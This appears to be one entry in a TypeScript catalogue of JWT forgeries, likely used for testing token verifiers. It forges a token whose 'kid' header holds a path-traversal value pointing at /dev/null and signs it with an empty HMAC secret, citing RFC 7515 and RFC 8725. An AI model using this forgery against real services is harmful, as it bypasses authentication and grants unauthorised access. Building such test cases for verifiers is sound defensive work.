/** A `kid` that leads out of the folder of keys, to a file that everybody knows. */
import { rfc } from '#sources/sources';
import type { Forgery } from '../forgery';
import { signHs256, withParameters } from '../header';

export default {
  label: 'kid as a path',
  order: 5,
  says: 'The "kid" climbs out of the key folder to /dev/null, which is empty. The forger signs with the empty HMAC secret.',
  sources: [rfc(7515, '4.1.4'), rfc(8725, '3.10')],
  forge: async ({ header, payload }) => {
    const forged = withParameters(header, { alg: 'HS256', kid: '../../../../../../dev/null' });
    return [{ compact: await signHs256(forged, payload, new Uint8Array()) }];
  },
} satisfies Forgery;
